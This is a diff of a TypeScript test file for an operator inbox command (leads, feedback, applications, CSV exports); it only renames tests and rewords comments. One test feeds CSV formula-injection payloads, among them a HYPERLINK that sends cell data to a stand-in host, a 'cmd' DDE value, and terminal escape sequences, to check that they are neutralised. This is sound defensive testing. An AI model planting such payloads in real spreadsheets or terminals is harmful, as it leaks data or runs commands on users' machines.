@@ -16,7 +16,7 @@ const program = 'server/upstream/operations/inboxCommand.ts'
 const out = mkdtempSync(join(tmpdir(), 'inbox-'))
 afterAll(() => rmSync(out, { recursive: true, force: true }))
 
-describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) => {
+describe.each(engines)('npm run inbox on %s, with a running upstream', (engine) => {
   let database: TestDatabase
   let upstream: Upstream
   beforeAll(async () => {
@@ -29,7 +29,7 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     await database.close()
   })
   const env = () => ({ DATA_DIR: database.dataDir, ...(database.place.url !== undefined && { DATABASE_URL: database.place.url }) })
-  /** The command runs in a process of its own, as an operator runs it. */
+  /** Runs the command in a separate process, as for an operator. */
   const runAlone = (...args: string[]): Promise<Outcome> => runCommand(program, args, env())
   const run = (...args: string[]): Promise<Outcome> => runInProcess(() => inboxCommand(args, env()))
   const fails = async (text: string | RegExp, ...args: string[]) =>
@@ -61,7 +61,7 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     return { ...(await send()), send, mine, image, token }
   }
 
-  test('a lead is listed, shown and done', async () => {
+  test('lists and shows a lead, and marks it as done', async () => {
     const id = await sendLead({ organisation: '筑石建设', phone: '13711112222', need: '两百人\n分三批' })
     const list = await runAlone('list', 'leads', '--status', 'open')
     expect(list).toMatchObject({ code: 0, err: '' })
@@ -77,7 +77,7 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     expect((await run('list', 'leads', '--status', 'done')).out).toContain(id)
   })
 
-  test('feedback is answered, and its sender reads it', async () => {
+  test('sends a reply to feedback, which its sender can read', async () => {
     const { id, mine } = await sendFeedback()
     expect((await run('reply', id, '  已修复，请刷新。 ')).out).toContain('已回复')
     expect(await mine()).toMatchObject({ state: 'replied', replies: [{ text: '已修复，请刷新。' }] })
@@ -89,7 +89,7 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     await fails('没有编号为', 'reply', await sendLead(), '好')
   })
 
-  test('an application is shown with its number masked unless it is asked for, refused by field, mended, and passed', async () => {
+  test('masks the number of an application by default, rejects it by field, and approves the corrected one', async () => {
     const { id, send, mine, image } = await sendApplication({ type: 2, creditCode: undefined, idNumber, name: '林晓木' })
     const shown = (await run('show', `${id}-1`)).out
     expect(shown).toMatch(/^入驻申请\n[^]*身份证号：1101\*{10}002X（加 --plain 查看全部）\n/)
@@ -122,7 +122,7 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     expect((await run('list', 'intentions', '--status', 'passed')).out).toContain(`${id}-2`)
   })
 
-  test('of two operators who decide at once one succeeds', async () => {
+  test('lets one of two concurrent operators decide', async () => {
     const { id, mine } = await sendApplication()
     const outcomes = await Promise.all([
       runAlone('decide', id, 'pass'),
@@ -133,7 +133,7 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     expect((await mine()).status).toBe(outcomes[1].code === 0 ? 2 : 1)
   })
 
-  test('a document is taken out as a file, for the operator alone, over nothing that is there', async () => {
+  test('exports a document as a file readable by the operator only, and never overwrites a file', async () => {
     const { image } = await sendApplication()
     const file = path('document.jpg')
     expect((await run('file', image.id, '--out', file)).out).toMatch(/^已写入 .*document\.jpg（40 × 20，\d+ 字节）\n$/)
@@ -145,7 +145,7 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     await fails(/文件夹不存在/, 'file', image.id, '--out', path('no/such/folder.jpg'))
   })
 
-  test('an opinion on a rule is listed, answered and done', async () => {
+  test('lists an opinion on a rule, replies to it and marks it as done', async () => {
     const { token } = await signedInAccount(upstream)
     const { id: user_id } = ((await upstream.ask('GET /api/user/self', undefined, { token })).data as { user: { id: string } }).user
     await database.db
@@ -163,7 +163,7 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     expect((await run('done', 'opinion-1')).out).toBe('此前已处理完毕，没有改动\n')
   })
 
-  test('a table opens as it is meant, and runs no formula', async () => {
+  test('exports tables that open correctly and contain no formulas', async () => {
     const formulas = ['=HYPERLINK("http://evil.example?x="&A1,"点我")', '+1+cmd|x', '-2+3', '@SUM(A1)', '＝1+1', '\t=1+1', ' =1+1']
     for (const [index, need] of formulas.entries()) await sendLead({ organisation: `单位"${index}",有限公司`, need: `${need}\n第二行` })
     const file = path('leads.csv')
@@ -177,7 +177,7 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     await fails('已存在，不会覆盖', 'export', 'leads', file)
   })
 
-  test.each(['intentions', 'feedback', 'opinions'])('%s as a table hold no identity number', async (kind) => {
+  test.each(['intentions', 'feedback', 'opinions'])('exports %s without identity numbers', async (kind) => {
     await sendApplication({ type: 2, creditCode: undefined, idNumber, name: '=1+1 工作室' })
     const file = path(`${kind}.csv`)
     expect(await run('export', kind, file)).toMatchObject({ code: 0 })
@@ -185,14 +185,14 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     if (kind === 'intentions') expect(readFileSync(file, 'utf8')).toContain(",'=1+1 工作室,")
   })
 
-  test('typed texts cannot move the cursor or colour the terminal', async () => {
+  test('escapes control characters of user texts in the terminal', async () => {
     const { id } = await sendFeedback({ text: '正常的文字\u001B[2J\u001B]0;title\u0007 后面\u202E还有', contact: '\u009B31m' })
     for (const { out: printed } of [await run('show', id), await run('list', 'feedback')])
-      // eslint-disable-next-line no-control-regex -- that there are none is the point
+      // eslint-disable-next-line no-control-regex -- the test asserts that there are none
       expect(printed.replaceAll('\n', '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/)
   })
 
-  test('everything is listed by kind; a list says when there is more', async () => {
+  test('lists all kinds, and reports when a list is longer', async () => {
     for (let count = 0; count < 3; count++) await sendLead()
     expect((await run('list')).out).toMatch(/^预约演示（[^]*\n\n入驻申请（[^]*\n\n意见反馈（[^]*\n\n规则意见（/)
     expect((await run('list', 'leads', '--most', '2')).out).toMatch(/^预约演示（最近 2 条）\n.*\n.*\n$/)
@@ -201,7 +201,7 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     await fails('--most 应为', 'list', '--most', '0')
   })
 
-  test('with another key an identity number cannot be read, and it says so', async () => {
+  test('reports that an identity number cannot be decrypted with another key', async () => {
     const { id } = await sendApplication({ type: 2, creditCode: undefined, idNumber })
     const other = await runCommand(program, ['show', id, '--plain'], { ...env(), DATA_KEY: 'another key that has enough letters' })
     expect(other).toMatchObject({ code: 1, out: '', err: expect.stringContaining('身份证号无法解密') })
@@ -219,11 +219,11 @@ describe.each(engines)('npm run inbox on %s, while the upstream runs', (engine) 
     [['reply', 'x']],
     [['export', 'leads']],
     [['constructor']],
-  ])('%j shows how it is used', async (args) => {
+  ])('prints the usage for %j', async (args) => {
     expect(await run(...args)).toMatchObject({ code: 2, out: '', err: expect.stringContaining('用法') })
   })
 })
 
-/** The cells of a table, unquoted. */
+/** Returns the cells of a table without quotes. */
 const cellsOf = (text: string): string[] =>
   [...text.slice(1).matchAll(/"((?:[^"]|"")*)"|([^,\r\n]+)/g)].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '')
